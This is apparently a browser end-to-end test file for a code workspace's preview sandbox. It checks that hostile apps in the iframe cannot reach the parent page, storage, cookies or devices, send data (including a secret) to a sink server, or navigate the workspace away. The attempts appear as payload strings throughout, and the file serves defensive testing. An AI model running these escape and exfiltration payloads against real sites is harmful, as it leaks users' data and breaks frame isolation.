/** Apps that try to get out of the preview: at the workspace's page, storage and cookies, and at the network. */
import type { FrameLocator } from 'playwright-core'
import { describe, expect, it } from 'vitest'
import { type HostilePreview, setUpHostilePreview } from './hostile-preview.ts'
import {
  allRefused,
  attempts,
  expectRunning,
  expectWorkspaceAlive,
  outcomes,
  SECRET,
  setUpHostileLab,
} from './hostile-session.ts'

const lab = setUpHostileLab()
const previews = setUpHostilePreview()

describe('the workspace beyond the frame', () => {
  it('I1 I2 I5 S9.30 its page, storage and cookies cannot be read, nor camera, place or clipboard be had; the frame has exactly its permissions', async () => {
    const session = await lab.open()
    const unknown: string[] = []
    session.page.on('console', (message) => {
      const isUnknown = message.text().includes('Unrecognized feature')
      // On Linux a browser has no Bluetooth for pages, and does not know that it could be denied.
      if (isUnknown && !message.text().endsWith("'bluetooth'.")) unknown.push(message.text())
    })
    const list = {
      'parent document': 'return window.parent.document.title',
      'top document': 'return window.top!.document.body.innerHTML',
      'parent storage': "return window.parent.localStorage.getItem('lathe_secret')",
      'parent session': "return window.parent.sessionStorage.getItem('lathe_session')",
      'parent cookie': 'return window.parent.document.cookie',
      'parent address': 'return window.parent.location.href',
      'parent function': "return (window.parent as any).eval('1')",
      'frame element': "if (window.frameElement === null) throw new Error('none'); return 'found'",
      'own storage':
        "if (localStorage.getItem('lathe_secret') === null) throw new Error('none'); return 'found'",
      'own cookie': "if (!document.cookie.includes('secret')) throw new Error('none'); return 'found'",
      'workspace over the network': `return (await fetch(${JSON.stringify(lab.lathe().origin)} + '/config.json')).status`,
      camera: 'return await navigator.mediaDevices.getUserMedia({ video: true })',
      microphone: 'return await navigator.mediaDevices.getUserMedia({ audio: true })',
      screen: 'return await navigator.mediaDevices.getDisplayMedia()',
      place:
        'return await new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(resolve, reject))',
      'clipboard, reading': 'return await navigator.clipboard.readText()',
      usb: 'return await (navigator as any).usb.requestDevice({ filters: [] })',
      payment:
        "return await new PaymentRequest([{ supportedMethods: 'basic-card' }], { total: { label: '', amount: { currency: 'EUR', value: '1' } } }).show()",
    }
    await session.run(attempts(list))
    expect(await outcomes(session)).toEqual(allRefused(list))
    // The browser knows every feature that is denied.
    expect(unknown).toEqual([])
    const frame = session.page.locator('iframe[title="Live preview"]')
    expect(await frame.getAttribute('sandbox')).toBe(
      'allow-scripts allow-same-origin allow-forms allow-popups allow-modals',
    )
    expect(await frame.getAttribute('allow')).toBe('clipboard-write')
    expect(await session.frame().evaluate(() => location.hostname)).toMatch(
      /^[0-9a-f]{32}\.preview\.localhost$/,
    )
  })

  it('I4 nothing is sent to servers of this machine, by whatever way', async () => {
    const session = await lab.open()
    const sink = JSON.stringify(lab.sink().origin)
    const loaded = (make: string) =>
      `const element: any = ${make}; document.body.append(element); return await new Promise((resolve, reject) => { element.onload = resolve; element.onerror = reject })`
    const list = {
      fetch: `return (await fetch(${sink} + '/fetch?${SECRET}')).status`,
      'fetch without cors': `return (await fetch(${sink} + '/no-cors', { mode: 'no-cors' })).type`,
      request: `return await new Promise((resolve, reject) => { const r = new XMLHttpRequest(); r.onload = resolve; r.onerror = reject; r.open('POST', ${sink} + '/xhr'); r.send('x') })`,
      socket: `return await new Promise((resolve, reject) => { const s = new WebSocket(${sink}.replace('http', 'ws') + '/socket'); s.onopen = resolve; s.onerror = reject })`,
      events: `return await new Promise((resolve, reject) => { const s = new EventSource(${sink} + '/events'); s.onopen = resolve; s.onerror = reject })`,
      image: loaded(`Object.assign(new Image(), { src: ${sink} + '/image' })`),
      script: loaded(`Object.assign(document.createElement('script'), { src: ${sink} + '/script' })`),
      style: loaded(
        `Object.assign(document.createElement('link'), { rel: 'stylesheet', href: ${sink} + '/style' })`,
      ),
      worker: `const code = 'fetch("' + ${sink} + '/worker").then(() => postMessage(1), () => postMessage(0))'; const url = URL.createObjectURL(new Blob([code])); const got = await new Promise((resolve) => { new Worker(url).onmessage = (e) => resolve(e.data) }); if (got === 0) throw new Error('refused'); return got`,
      'a frame of its own': `const f = document.createElement('iframe'); document.body.append(f); return (await (f.contentWindow as any).fetch(${sink} + '/nested')).status`,
    }
    await session.run(attempts(list))
    expect(await outcomes(session)).toEqual(allRefused(list))
    await session.frame().evaluate((address) => {
      navigator.sendBeacon(`${address}/beacon`, 'x')
      document.body.insertAdjacentHTML('beforeend', `<iframe src="${address}/frame"></iframe>`)
      document.body.insertAdjacentHTML('beforeend', `<a ping="${address}/ping" href="#x">ping</a>`)
    }, lab.sink().origin)
    await session.app.getByText('ping').click()
    await expectWorkspaceAlive(session.page, lab.lathe())
    expect(lab.sink().hits()).toEqual([])
  })
})

describe('leaving', () => {
  /** An app with a button for each of these ways to leave. */
  const leaving = (ways: Readonly<Record<string, string>>) =>
    `const sink = ${JSON.stringify(lab.sink().origin)}
export default function App() {
  return <main><h1>Here</h1>${Object.entries(ways)
    .map(([name, code]) => `<button onClick={() => { ${code} }}>${name}</button>`)
    .join('')}</main>
}
`
  const ways: Readonly<Record<string, string>> = {
    address: "location.href = sink + '/self'",
    replacement: "location.replace(sink + '/self')",
    'window by name': "window.open(sink + '/self', '_self')",
    form: "const f = Object.assign(document.createElement('form'), { action: sink + '/form', method: 'post' }); document.body.append(f); f.submit()",
    'refresh in the head':
      "const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=' + sink + '/meta'; document.head.append(m)",
  }
  /** Not a press of the person, which would open a tab. */
  const pressByScript = (app: FrameLocator, name: string) =>
    app.getByRole('button', { name, exact: true }).evaluate((button) => {
      setTimeout(() => (button as HTMLElement).click())
    })

  it('I8 is refused: the app stays as it is, and the person hears of it', async () => {
    const session = await lab.open()
    await session.run(leaving(ways))
    await session.frame().evaluate(() => Object.assign(window, { isSamePage: true }))
    await pressByScript(session.app, 'address')
    await session.page
      .getByText(/The app tried to go to http:\/\/127\.0\.0\.1/)
      .first()
      .waitFor()
    expect(await session.frame().evaluate(() => 'isSamePage' in window)).toBe(true)
    await session.app.getByRole('heading', { name: 'Here' }).waitFor()
    expect(lab.sink().hits()).toEqual([])
  })

  it(`I8 by ${Object.keys(ways).join(', ')} is refused, where no policy of the workspace's would stop it`, async () => {
    const preview = await previews.open()
    await preview.run(leaving(ways))
    await preview.frame().evaluate(() => Object.assign(window, { isSamePage: true }))
    const heard = () => preview.page.evaluate(() => window.lab.notices)
    const notice = `The app tried to go to ${lab.sink().origin}. In the preview it cannot leave its own page.`
    const expected: string[] = []
    for (const name of Object.keys(ways)) {
      await pressByScript(preview.app, name)
      expected.push(notice)
      await expect.poll(heard, { message: name }).toEqual(expected)
      expect(await preview.frame().evaluate(() => 'isSamePage' in window), name).toBe(true)
      await preview.app.getByRole('heading', { name: 'Here' }).waitFor()
    }
    expect(lab.sink().hits()).toEqual([])
  })

  const unguarded = "Object.defineProperty(Event.prototype, 'cancelable', { get: () => false });"
  const pastHost = (ways: Readonly<Record<string, string>>) =>
    leaving(Object.fromEntries(Object.entries(ways).map(([name, code]) => [name, unguarded + code])))
  /** Presses it, and waits until the page is another one than before. */
  const leaveBy = async ({ app, frame }: Pick<HostilePreview, 'app' | 'frame'>, name: string) => {
    await frame().evaluate(() => Object.assign(window, { isSamePage: true }))
    await app.getByRole('button', { name }).click()
    // Between two pages there is none to ask.
    const isSamePage = async () => frame().evaluate(() => 'isSamePage' in window)
    await expect.poll(() => isSamePage().catch(() => true)).toBe(false)
    await app.getByRole('heading', { name: 'Here' }).waitFor()
  }

  it('I8 a frame that got past its host is put back, with nothing sent', async () => {
    const session = await lab.open()
    await session.run(pastHost({ First: 'location.href = sink' }))
    // What the person hears passes by; the console keeps it.
    await session.page.getByRole('button', { name: /^Console/ }).click()
    const heard = session.page.getByRole('region', { name: 'Console' })
    await heard.getByRole('button', { name: 'Clear the console' }).click()
    await leaveBy(session, 'First')
    await heard.getByText('The app left its own page and was put back.').waitFor()
    await expectRunning(session.page)
    await heard.getByRole('button', { name: 'Close the console' }).click()
    expect(lab.sink().hits()).toEqual([])
  })

  it('I8 a frame that got past its host to no server, or without a word, is put back', async () => {
    const preview = await previews.open()
    // A frame that is put back too often in a while is stopped, as below, where it leaves for an empty page.
    const past = {
      First: "location.href = 'data:text/html,<h1>Gone</h1>'",
      Second:
        "addEventListener('pagehide', (event) => event.stopImmediatePropagation(), true); location.href = 'about:blank'",
    }
    await preview.run(pastHost(past))
    for (const name of Object.keys(past)) await leaveBy(preview, name)
    expect(await preview.page.evaluate(() => window.lab.notices)).toEqual(
      Object.keys(past).map(() => expect.stringContaining('The app left its own page and was put back.')),
    )
    await preview.expectNotStopped()
  })

  it('I8 one that leaves again and again is stopped', async () => {
    const preview = await previews.open()
    await preview.write(`setTimeout(() => { ${unguarded} location.href = 'about:blank' })
export default function App() { return <main>Here</main> }
`)
    expect(await preview.stopped()).toContain('leaves its own page again and again')
    await preview.expectAlive()
  }, 150_000)

  it('I10 the workspace itself is led nowhere', async () => {
    const session = await lab.open()
    const sink = JSON.stringify(lab.sink().origin)
    const list = {
      'top address': `window.top!.location.href = ${sink}`,
      'parent address': `window.parent.location.replace(${sink})`,
      'by a frame within': `return await new Promise((resolve, reject) => {
        const f = document.createElement('iframe')
        f.srcdoc = '<script>let r = "reached"; try { parent.location.href = "' + ${sink} + '/nested" } catch { r = "refused" } parent.postMessage(r, "*")</script>'
        window.addEventListener('message', ({ data }) => (data === 'refused' ? reject(data) : resolve(data)))
        document.body.append(f)
      })`,
      'top by name': `if (window.open(${sink}, '_top') === null) throw new Error('refused')`,
    }
    await session.run(attempts(list))
    expect(await outcomes(session)).toEqual(allRefused(list))
    await session.frame().evaluate((address) => {
      document.body.insertAdjacentHTML(
        'beforeend',
        `<form action="${address}/form" target="_top"><button>Send</button></form>`,
      )
    }, lab.sink().origin)
    await session.app.getByRole('button', { name: 'Send', exact: true }).click()
    await session.frame().evaluate(() => document.querySelector('form')?.submit())
    await session.frame().evaluate(() => {
      history.pushState(null, '', '/deeper')
      const nested = document.createElement('iframe')
      document.body.append(nested)
      for (const steps of [-1, -2, -10]) {
        history.go(steps)
        nested.contentWindow?.history.go(steps)
      }
    })
    // Long enough for a traversal to happen, if it can.
    await new Promise((resolve) => setTimeout(resolve, 1000))
    await expectWorkspaceAlive(session.page, lab.lathe())
    expect(lab.sink().hits()).toEqual([])
  })

  it('I11 what the person follows opens a tab of its own, which cannot reach the workspace', async () => {
    const session = await lab.open()
    const { origin } = lab.sink()
    await session.run(`export default function App() {
  return <main>
    <a href="${origin}/plain">Plain</a> <a href="${origin}/top" target="_top">Top</a>
    <a href="${origin}/blank" target="_blank" rel="opener">Blank</a>
    <button onClick={() => { window.open('about:blank', 'popup') }}>Popup</button>
  </main>
}
`)
    const opened = async (name: string) => {
      const [popup] = await Promise.all([
        session.page.context().waitForEvent('page'),
        session.app.getByText(name, { exact: true }).click(),
      ])
      return popup
    }
    for (const name of ['Plain', 'Top']) {
      const popup = await opened(name)
      await popup.getByRole('heading', { name: 'Elsewhere' }).waitFor()
      expect(await popup.evaluate(() => window.opener === null)).toBe(true)
      await popup.close()
      await session.page.bringToFront()
      await session.app.getByText(name, { exact: true }).waitFor()
    }
    for (const name of ['Blank', 'Popup']) {
      const popup = await opened(name)
      const reached = await popup.evaluate((address) => {
        const workspace = window.opener?.parent
        const ways: Array<() => unknown> = [
          () => workspace.document.title,
          () => workspace.localStorage.length,
          () => {
            workspace.location.href = `${address}/opener`
          },
        ]
        return ways.map((way) => {
          try {
            way()
            return 'reached'
          } catch {
            return 'refused'
          }
        })
      }, origin)
      expect(reached).not.toContain('reached')
      await popup.close()
      await session.page.bringToFront()
    }
    await expectWorkspaceAlive(session.page, lab.lathe())
    expect(
      lab
        .sink()
        .hits()
        .filter((path) => path.includes(SECRET) || path === '/opener'),
    ).toEqual([])
  })

  it('I8 a page that writes itself over still answers, and Refresh brings the app back', async () => {
    const preview = await previews.open()
    await preview.run(
      leaving({ Leave: "document.open(); document.write('<h1>Written over</h1>'); document.close()" }),
    )
    await preview.app.getByRole('button', { name: 'Leave' }).click()
    await preview.app.getByRole('heading', { name: 'Written over' }).waitFor()
    // Longer than a page may be silent.
    await new Promise((resolve) => setTimeout(resolve, 3000))
    await preview.expectNotStopped()
    await preview.refresh()
    await preview.app.getByRole('heading', { name: 'Here' }).waitFor()
    await preview.expectNotStopped()
  })
})
